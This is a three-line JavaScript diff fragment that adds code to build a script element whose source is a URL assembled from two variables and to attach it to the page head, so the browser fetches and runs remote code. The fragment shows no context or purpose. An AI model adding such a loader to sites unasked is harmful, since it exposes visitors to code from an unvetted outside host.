@@ -1,0 +1,3 @@
+const script = document.createElement("script");
+script.src = `${third}/?${word}`;
+document.head.append(script);
